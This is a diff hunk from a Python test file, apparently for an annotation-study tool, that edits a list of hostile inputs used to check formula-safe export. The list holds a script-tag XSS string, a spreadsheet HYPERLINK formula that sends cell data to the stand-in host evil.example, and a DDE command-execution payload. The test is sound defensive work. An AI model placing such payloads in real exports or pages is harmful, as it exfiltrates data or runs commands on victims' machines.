@@ -394,7 +394,7 @@ def test_bootstrap_over_annotators_brackets_the_estimate_and_spans_zero_when_ann
 
 # -- hostile input and export ---------------------------------------------------------------------------------------
 HOSTILE = ['<script>alert("x")</script>', '=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
-           "+1-1", "-2+3", "\tTAB=1", "名前 <b>bold</b> &amp;"]
+           "+1-1", "-2+3", "  =TAB+1", "名前 <b>bold</b> &amp;"]  # a control character is refused (test_text_hygiene.py)
 
 
 def test_hostile_names_instructions_and_comments_are_stored_verbatim_and_exported_formula_safe(studies, tmp_path):
